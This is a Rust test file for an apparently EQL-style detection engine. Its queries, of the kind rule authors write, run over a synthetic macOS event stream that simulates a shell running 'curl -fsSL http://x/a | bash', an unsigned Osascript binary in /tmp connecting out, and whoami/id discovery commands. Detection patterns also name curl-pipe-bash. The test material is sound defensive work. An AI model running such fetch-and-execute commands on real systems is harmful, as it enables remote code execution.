//! Queries as rule authors write them, over one stream, with the answers that Elasticsearch's source gives.

use serde_json::{Value, json};

use crate::language::{alerts, event};

/// A Mac for a minute: a shell downloads and runs a script, which connects; another user looks around.
fn stream() -> Vec<Value> {
    let process = |id: usize, second: f64, fields: Value| {
        let mut event =
            event(id, second, json!({"event.type": ["start"], "event.action": "exec", "host.os.type": "macos"}));
        fields.as_object().unwrap().iter().for_each(|(name, value)| event[name] = value.clone());
        event
    };
    let network = |id: usize, second: f64, fields: Value| {
        let mut event =
            process(id, second, json!({"event.category": "network", "event.action": "connection_attempted"}));
        fields.as_object().unwrap().iter().for_each(|(name, value)| event[name] = value.clone());
        event
    };
    vec![
        process(
            1,
            0.0,
            json!({"process.name": "zsh", "process.entity_id": "Z", "process.pid": 10, "user.id": "501",
            "process.executable": "/bin/zsh", "process.args": ["zsh", "-c", "curl -fsSL http://x/a | bash"],
            "process.command_line": "zsh -c curl -fsSL http://x/a | bash", "process.args_count": 3}),
        ),
        process(
            2,
            1.0,
            json!({"process.name": "curl", "process.entity_id": "C", "process.parent.entity_id": "Z",
            "process.pid": 11, "process.parent.pid": 10, "process.parent.name": "zsh", "user.id": "501",
            "process.executable": "/usr/bin/curl", "process.args": ["curl", "-fsSL", "http://x/a"],
            "process.command_line": "curl -fsSL http://x/a", "process.args_count": 3}),
        ),
        network(
            3,
            2.0,
            json!({"process.name": "curl", "process.entity_id": "C", "process.pid": 11, "user.id": "501",
            "destination.ip": "93.184.216.34", "destination.port": 80}),
        ),
        process(
            4,
            3.0,
            json!({"process.name": "bash", "process.entity_id": "B", "process.parent.entity_id": "Z",
            "process.pid": 12, "process.parent.pid": 10, "process.parent.name": "zsh", "user.id": "501",
            "process.executable": "/bin/bash", "process.args": ["bash"], "process.command_line": "bash", "process.args_count": 1}),
        ),
        process(
            5,
            4.0,
            json!({"process.name": "Osascript", "process.entity_id": "O", "process.parent.entity_id": "B",
            "process.pid": 13, "process.parent.pid": 12, "process.parent.name": "bash", "user.id": "501",
            "process.executable": "/private/tmp/Osascript", "process.args": ["osascript", "-e", "display dialog"],
            "process.command_line": "osascript -e display dialog", "process.args_count": 3,
            "process.code_signature.exists": false}),
        ),
        network(
            6,
            6.0,
            json!({"process.name": "Osascript", "process.entity_id": "O", "process.pid": 13, "user.id": "501",
            "destination.ip": "10.1.2.3", "destination.port": 8443}),
        ),
        network(
            7,
            40.0,
            json!({"process.name": "Osascript", "process.entity_id": "O", "process.pid": 13, "user.id": "501",
            "destination.ip": "2606:4700::1111", "destination.port": 443}),
        ),
        process(
            8,
            50.0,
            json!({"process.name": "whoami", "process.entity_id": "W", "process.pid": 20, "user.id": "502",
            "process.executable": "/usr/bin/whoami", "process.args": ["whoami"], "process.command_line": "whoami",
            "process.args_count": 1}),
        ),
        process(
            9,
            51.0,
            json!({"process.name": "id", "process.entity_id": "I", "process.pid": 21, "user.id": "502",
            "process.executable": "/usr/bin/id", "process.args": ["id", "-u"], "process.command_line": "id -u",
            "process.args_count": 2}),
        ),
        process(
            10,
            52.0,
            json!({"process.name": "whoami", "process.entity_id": "V", "process.pid": 22, "user.id": "502",
            "event.type": ["end"], "event.action": "end", "process.exit_code": 0}),
        ),
    ]
}

#[track_caller]
fn find(cases: &[(&str, &[&[usize]])]) {
    let stream = stream();
    for (query, expected) in cases {
        let ids = |alert: &osawatch::alert::Alert| -> Vec<usize> {
            alert.events.iter().map(|event| event.id().parse().unwrap()).collect()
        };
        let found: Vec<Vec<usize>> = alerts(query, &stream).iter().map(ids).collect();
        assert_eq!(found, *expected, "{query}");
    }
}

#[test]
fn single_events_are_found_by_what_authors_ask_of_them() {
    find(&[
        (
            r#"process where host.os.type == "macos" and event.type in ("start", "process_started") and event.action == "exec" and
            process.name : ("curl", "wget", "nscurl")"#,
            &[&[2]],
        ),
        (r#"process where process.name in~ ("OSASCRIPT", "curl*")"#, &[&[5]]),
        (
            r#"process where process.executable like~ ("/TMP/*", "/private/tmp/*") and not process.code_signature.exists == true"#,
            &[&[5]],
        ),
        (r#"process where process.executable like "/private/TMP/*""#, &[]),
        (r#"process where process.args == "-c" and process.args : ("*curl *|*bash*", "*wget *")"#, &[&[1]]),
        (r#"process where process.args : "-?" and process.args_count >= 3 and process.args != "-e""#, &[&[1]]),
        (r#"process where process.command_line regex~ """.*HTTPS?://[A-Z]/.*""" "#, &[]),
        (r#"process where process.command_line regex~ """.*HTTPS?://[XYZ]/.*""" "#, &[&[1], &[2]]),
        (r#"process where process.command_line regex """[a-z]+( -[A-Za-z]+)? [^ ]*http://.*""" "#, &[&[2]]),
        (
            r#"process where startsWith~(process.name, "OSA") or endswith~(process.name, "AMI") and event.type == "start""#,
            &[&[5], &[8]],
        ),
        (
            r#"process where stringContains(process.command_line, "dialog") // the dialog
            and not /* not a shell */ process.name : "*sh""#,
            &[&[5]],
        ),
        (r#"process where wildcard~(process.args, "DISPLAY *", "x*") and length(process.name) > 8"#, &[&[5]]),
        (r#"process where `process.name` == "id" and ?process.args : "-u" and ?no.such.field == null"#, &[&[9]]),
        (r#"process where process.exit_code == null and user.id != "501""#, &[&[8], &[9]]),
        (r#"process where not process.exit_code == null"#, &[&[10]]),
        (
            r#"process where process.name == "whoami" and not event.type : "END" and process.parent.name != "launchd""#,
            &[&[8]],
        ),
        (r#"process where length(process.parent.name) != 3 and user.id == "502""#, &[&[8], &[9], &[10]]),
        (r#"process where process.parent.name == "zsh" and (process.pid - process.parent.pid) in (1, null)"#, &[&[2]]),
        (
            r#"process where substring(process.name, -4) : "CURL" or between(process.args, "display ", "g") == "dialo""#,
            &[&[2], &[5]],
        ),
        (
            r#"process where concat(user.id, ":", process.name) == "502:id" or number(user.id) % 2 == 1 and process.pid == 12"#,
            &[&[4], &[9]],
        ),
        (
            r#"process where indexOf(process.command_line, "http") > 10 and string(process.pid) like "1?""#,
            &[&[1], &[2]],
        ),
        (
            r#"network where not cidrMatch(destination.ip, "10.0.0.0/8", "127.0.0.0/8", "FE80::/10") and
            destination.port in (80, 443)"#,
            &[&[3], &[7]],
        ),
        (r#"network where cidrmatch(destination.ip, "2606:4700::/32") or destination.ip == "10.1.2.3""#, &[&[6], &[7]]),
        (
            r#"any where event.category : "Network" and destination.port != 80 and not process.name : ("curl", "wget")"#,
            &[&[6], &[7]],
        ),
        (r#"any where event.category : ("proc*", "netw?rk") and process.pid == 12"#, &[&[4]]),
        (r#"process where process.name : "whoami" | head 1"#, &[&[8]]),
        (r#"process where true | tail 2 | head 1"#, &[&[9]]),
    ]);
}

#[test]
fn sequences_are_found_by_what_authors_ask_of_them() {
    find(&[
        (
            r#"sequence by process.entity_id with maxspan=30s
             [process where event.type == "start" and process.name : "osascript"]
             [network where event.type != "end" and not cidrMatch(destination.ip, "127.0.0.0/8")]"#,
            &[&[5, 6]],
        ),
        (
            r#"sequence by process.entity_id with maxspan=30s
             [process where event.type == "start" and process.name : "osascript"]
             [network where not cidrMatch(destination.ip, "10.0.0.0/8")]"#,
            &[],
        ),
        (
            r#"sequence by process.entity_id with maxspan=36s [process where process.name : "osascript"]
             [network where destination.port == 443]"#,
            &[&[5, 7]],
        ),
        (
            r#"sequence with maxspan=5s
             [process where process.name == "zsh" and process.args == "-c"] by process.entity_id
             [process where process.name in ("bash", "sh")] by process.parent.entity_id
             [process where process.code_signature.exists == false] by process.parent.entity_id"#,
            &[],
        ),
        (
            r#"sequence by host.id, user.id with maxspan=1m
             [process where process.args : "*| bash"]
             [network where process.name == "curl"]
             [process where process.name == "bash"]
             [network where destination.port > 1024]"#,
            &[&[1, 3, 4, 6]],
        ),
        (
            r#"sequence by user.id with maxspan=10s [process where event.type == "start"] with runs=3"#,
            &[&[1, 2, 4], &[2, 4, 5]],
        ),
        (
            r#"sequence with maxspan=2s [process where process.parent.pid == 10] by user.id with runs=2
             [process where process.name : "osa*"] by user.id"#,
            &[],
        ),
        (
            r#"sequence by process.entity_id [process where process.name == "curl"] [network where true]
             until [process where event.type == "end"]"#,
            &[&[2, 3]],
        ),
        (
            r#"sequence by user.id [process where process.name == "whoami" and event.type == "start"] [process where true]
             [process where true] until [process where process.name == "id"]"#,
            &[],
        ),
        (
            r#"sequence by user.id with maxspan=1m [process where process.name == "zsh"]
             ![network where destination.port == 80] [process where process.name : "osascript"]"#,
            &[],
        ),
        (
            r#"sequence by user.id with maxspan=1m [process where process.name == "zsh"]
             ![network where destination.port == 22] [process where process.name : "osascript"]"#,
            &[&[1, 5]],
        ),
        (
            r#"sequence by process.entity_id with maxspan=10s [process where event.type == "start" and user.id == "501"]
             ![network where true]"#,
            &[&[1], &[4]],
        ),
        (
            r#"sequence by ?process.parent.entity_id, host.id with maxspan=1m [process where process.name == "whoami"]
             [process where process.name == "id"]"#,
            &[&[8, 9]],
        ),
        (
            r#"sequence by process.parent.entity_id with maxspan=1m [process where process.name == "whoami"]
             [process where process.name == "id"]"#,
            &[],
        ),
        (
            r#"sequence by host.id [process where user.id == "501"] [process where user.id == "502"] | tail 1"#,
            &[&[5, 8]],
        ),
        (
            r#"sample by user.id [process where process.name == "id"] [process where process.name == "whoami"]"#,
            &[&[9, 8]],
        ),
    ]);
}
